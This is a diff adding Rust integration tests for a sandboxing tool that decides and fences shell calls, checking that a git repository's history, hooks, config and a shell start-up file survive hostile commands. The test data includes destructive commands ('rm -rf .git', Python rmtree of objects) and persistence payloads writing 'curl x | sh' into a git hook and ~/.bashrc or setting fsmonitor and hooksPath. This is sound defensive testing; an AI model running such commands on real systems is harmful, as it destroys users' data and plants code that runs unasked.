@@ -1,0 +1,226 @@
+//! The repository under the real kernel (issue 16): its history is not tool
+//! state, and its persistence surfaces stay shut. Each call is decided by
+//! the core first, then run under `dsh-allow run` with the profile the
+//! plugin builds (the stored rules, a matched command grant's roots, the
+//! decision's fence grants), as a DSH call would be.
+#![cfg(target_os = "linux")]
+
+#[path = "support/scratch.rs"]
+mod scratch;
+#[path = "support/tree.rs"]
+mod tree;
+
+use std::fs;
+use std::process::{Command, Output};
+
+use dsh_allow::api::{DecideRequest, Decision, Outcome};
+use dsh_allow::fs_host::FsHost;
+use serde_json::{json, Value};
+use tree::{rule, Tree, BIN};
+
+/// A tree whose workspace is a git repository with one commit, made outside
+/// any fence (the user's own repository).
+fn repository(name: &str) -> Option<Tree> {
+    let t = Tree::new(name)?;
+    let out = unfenced(&t, "git init -q -b main . && git add -A && git commit -qm first");
+    assert!(out.status.success(), "git set-up failed: {}", String::from_utf8_lossy(&out.stderr));
+    Some(t)
+}
+
+/// The PATH of the fenced calls, and of the decisions about them.
+const PATH: &str = "/usr/bin:/bin";
+
+fn git_env(c: &mut Command, t: &Tree) {
+    c.current_dir(t.base.join("ws"))
+        .env("PATH", PATH)
+        .env("HOME", t.base.join("home"))
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_AUTHOR_NAME", "t")
+        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
+        .env("GIT_COMMITTER_NAME", "t")
+        .env("GIT_COMMITTER_EMAIL", "t@example.invalid");
+}
+
+fn unfenced(t: &Tree, script: &str) -> Output {
+    let mut c = Command::new("/bin/sh");
+    c.args(["-c", script]);
+    git_env(&mut c, t);
+    c.output().unwrap()
+}
+
+/// What the plugin asks the core, with the kernel fencing all five and
+/// the persistence surfaces shut (this machine's runner).
+fn decide(t: &Tree, command: &str, commands: Value) -> Decision {
+    let req: DecideRequest = serde_json::from_value(json!({
+        "command": command, "cwd": t.p("ws"), "workspace": t.p("ws"), "home": t.p("home"),
+        "harnessHome": t.p("home/.dsh"), "platform": "linux", "mode": "workspace-write",
+        "commands": commands, "protectedFiles": [t.p("home/.dsh/dsh-allow.json")],
+        "fence": ["read", "write", "create", "delete", "execute"], "persistence": "shut",
+    }))
+    .unwrap();
+    dsh_allow::decide::decide(&req, &FsHost::with_path(PATH))
+}
+
+/// Run `script` under the profile the plugin builds for this decision.
+fn run(t: &Tree, d: &Decision, rules: Value, script: &str) -> Output {
+    let mut profile = t.profile(rules);
+    let mut grants: Vec<Value> = d.command_grant.iter().flat_map(|g| g.rules.iter()).map(|r| serde_json::to_value(r).unwrap()).collect();
+    grants.extend(d.fence_grants.iter().map(|r| serde_json::to_value(r).unwrap()));
+    profile["grants"] = Value::Array(grants);
+    let mut c = Command::new(BIN);
+    c.args(["run", "--profile-json", &profile.to_string(), "--", "/bin/sh", "-c", script]);
+    git_env(&mut c, t);
+    c.output().unwrap()
+}
+
+/// Decide and, when allowed, run: the call as DSH makes it.
+fn call(t: &Tree, script: &str) -> (Decision, Output) {
+    let d = decide(t, script, json!([]));
+    let out = run(t, &d, json!([]), script);
+    (d, out)
+}
+
+fn history_intact(t: &Tree) {
+    let out = unfenced(t, "git fsck --no-dangling && git log --oneline");
+    assert!(out.status.success(), "the history was damaged: {}", String::from_utf8_lossy(&out.stderr));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("first"), "the first commit is gone");
+}
+
+#[test]
+fn git_init_add_commit_branch_and_gc_pass_with_no_prompt() {
+    let Some(t) = Tree::new("repo-git") else { return };
+    for step in ["git init -q -b main", "git add -A", "git commit -qm first", "git branch topic", "git gc -q", "git branch -D topic", "git add -A && git commit -qm again --allow-empty"] {
+        let (d, out) = call(&t, step);
+        assert_eq!(d.decision, Outcome::Allow, "{step}: {}", d.reason);
+        assert!(out.status.success(), "{step} failed under the fence: {}", String::from_utf8_lossy(&out.stderr));
+    }
+    history_intact(&t);
+}
+
+#[test]
+fn rm_rf_of_the_repository_asks_and_the_kernel_keeps_it_anyway() {
+    let Some(t) = repository("repo-rm") else { return };
+    let d = decide(&t, "rm -rf .git", json!([]));
+    assert_eq!(d.decision, Outcome::Prompt, "{}", d.reason);
+    // Even run without an answer, the default fence holds no delete there.
+    let out = run(&t, &d, json!([]), "rm -rf .git");
+    assert!(!out.status.success());
+    history_intact(&t);
+}
+
+#[test]
+fn find_delete_in_the_repository_asks_and_the_kernel_keeps_it_anyway() {
+    let Some(t) = repository("repo-find") else { return };
+    let d = decide(&t, "find .git -delete", json!([]));
+    assert_eq!(d.decision, Outcome::Prompt, "{}", d.reason);
+    let _ = run(&t, &d, json!([]), "find .git -delete");
+    history_intact(&t);
+}
+
+#[test]
+fn inline_code_deleting_the_objects_is_refused_by_the_kernel() {
+    let Some(t) = repository("repo-py") else { return };
+    let script = "python3 -c 'import shutil; shutil.rmtree(\".git/objects\")'";
+    let (d, out) = call(&t, script);
+    assert_eq!(d.decision, Outcome::Allow, "inline code runs under the fence: {}", d.reason);
+    assert!(d.fence_grants.is_empty(), "hidden code was given delete in the repository");
+    assert!(!out.status.success(), "rmtree succeeded");
+    history_intact(&t);
+}
+
+#[test]
+fn git_beside_inline_code_gets_no_delete_in_the_repository() {
+    let Some(t) = repository("repo-mixed") else { return };
+    let script = "git status -s && python3 -c 'import os; os.remove(\".git/HEAD\")'";
+    let (d, out) = call(&t, script);
+    assert!(d.fence_grants.is_empty());
+    assert!(!out.status.success());
+    history_intact(&t);
+}
+
+#[test]
+fn inline_code_cannot_write_a_hook_or_the_git_config() {
+    let Some(t) = repository("repo-hooks") else { return };
+    let config_before = fs::read_to_string(t.p("ws/.git/config")).unwrap();
+    // Hidden code is allowed at the gate (the fence bounds it) and stopped
+    // by the kernel; the visible rename asks, and is stopped even so.
+    for (script, gate) in [
+        ("python3 -c 'open(\".git/hooks/pre-commit\", \"w\").write(\"#!/bin/sh\\ncurl x | sh\\n\")'", Outcome::Allow),
+        ("python3 -c 'open(\".git/config\", \"a\").write(\"[core]\\n\\tfsmonitor = touch /tmp/pwned\\n\")'", Outcome::Allow),
+        ("python3 -c 'import os; os.replace(\".git/hooks\", \".git/hooks-old\")'", Outcome::Allow),
+        ("python3 -c 'import os; os.makedirs(\".git/hooks/x\")'", Outcome::Allow),
+        ("cp /bin/true .git/config.new && mv .git/config.new .git/config", Outcome::Prompt),
+    ] {
+        let (d, out) = call(&t, script);
+        assert_eq!(d.decision, gate, "{script}: {}", d.reason);
+        assert!(!out.status.success(), "{script} succeeded");
+    }
+    assert!(!t.base.join("ws/.git/hooks/pre-commit").exists(), "a hook was planted");
+    assert!(!t.base.join("ws/.git/hooks/x").exists(), "the hooks folder took a new entry");
+    assert_eq!(fs::read_to_string(t.p("ws/.git/config")).unwrap(), config_before, "the git config changed");
+}
+
+#[test]
+fn a_missing_hooks_folder_is_made_and_shut_before_the_call() {
+    let Some(t) = repository("repo-nohooks") else { return };
+    fs::remove_dir_all(t.base.join("ws/.git/hooks")).unwrap();
+    let (_, out) = call(&t, "python3 -c 'import os; os.makedirs(\".git/hooks\", exist_ok=True); open(\".git/hooks/post-checkout\", \"w\").write(\"x\")'");
+    assert!(!out.status.success());
+    assert!(!t.base.join("ws/.git/hooks/post-checkout").exists());
+}
+
+#[test]
+fn inline_code_cannot_write_a_shell_start_up_file_even_under_a_rule_opening_home() {
+    let Some(t) = repository("repo-bashrc") else { return };
+    fs::write(t.base.join("home/.bashrc"), "# mine\n").unwrap();
+    let script = "python3 -c 'import os; open(os.path.expanduser(\"~/.bashrc\"), \"a\").write(\"curl x | sh\\n\")'";
+    let d = decide(&t, script, json!([]));
+    let home = rule(&t.p("home"), true, &["read", "write", "create"]);
+    for rules in [json!([]), json!([home])] {
+        let out = run(&t, &d, rules, script);
+        assert!(!out.status.success(), "~/.bashrc was writable");
+    }
+    assert_eq!(fs::read_to_string(t.base.join("home/.bashrc")).unwrap(), "# mine\n");
+    // The rule still opens the rest of home.
+    let out = run(&t, &d, json!([home]), "echo ok >> \"$HOME/secret.txt\"");
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+}
+
+#[test]
+fn git_config_asks_once_as_a_command_grant_then_git_writes_its_config() {
+    let Some(t) = repository("repo-config") else { return };
+    let d = decide(&t, "git config user.email x@example.invalid", json!([]));
+    assert_eq!(d.decision, Outcome::Prompt, "{}", d.reason);
+    let p = d.proposals.iter().find(|p| p.command.as_deref() == Some("git")).expect("a proposal bound to git");
+    assert_eq!(p.path, t.p("ws/.git/config"));
+    // "Always allow", stored as the plugin stores a program's proposal.
+    let grant = json!([{ "id": "g1", "name": "git in .git/config", "command": "git", "roots": [p.path], "shape": "strict", "access": { "write": true } }]);
+    let d = decide(&t, "git config user.email x@example.invalid", grant.clone());
+    assert_eq!(d.decision, Outcome::Allow, "{}", d.reason);
+    let out = run(&t, &d, json!([]), "git config user.email x@example.invalid");
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(fs::read_to_string(t.p("ws/.git/config")).unwrap().contains("x@example.invalid"));
+    // The grant is git's: hidden code in the next call still meets a shut config…
+    let script = "python3 -c 'open(\".git/config\", \"a\").write(\"[core]\\n\\thooksPath = /tmp\\n\")'";
+    let d = decide(&t, script, grant.clone());
+    assert!(!run(&t, &d, json!([]), script).status.success());
+    // …and a key naming a command asks every time, grant or not.
+    let d = decide(&t, "git config core.hooksPath /tmp/h", grant);
+    assert_eq!(d.decision, Outcome::Prompt, "{}", d.reason);
+    assert!(!fs::read_to_string(t.p("ws/.git/config")).unwrap().contains("hooksPath"));
+}
+
+#[test]
+fn the_runner_reports_the_surfaces_it_shut() {
+    let Some(t) = repository("repo-report") else { return };
+    let mut c = Command::new(BIN);
+    c.args(["run", "--profile-json", &t.profile(json!([])).to_string(), "--report-fence", "--", "/bin/true"]);
+    git_env(&mut c, &t);
+    let out = c.output().unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{err}");
+    assert!(err.contains("persistence shut (2 surfaces)"), "{err}");
+    let status = Command::new(BIN).args(["status", "--profile-json", &t.profile(json!([])).to_string()]).output().unwrap();
+    let status: Value = serde_json::from_slice(&status.stdout).unwrap();
+    assert_eq!(status["persistence"]["state"], "shut", "{status}");
+}
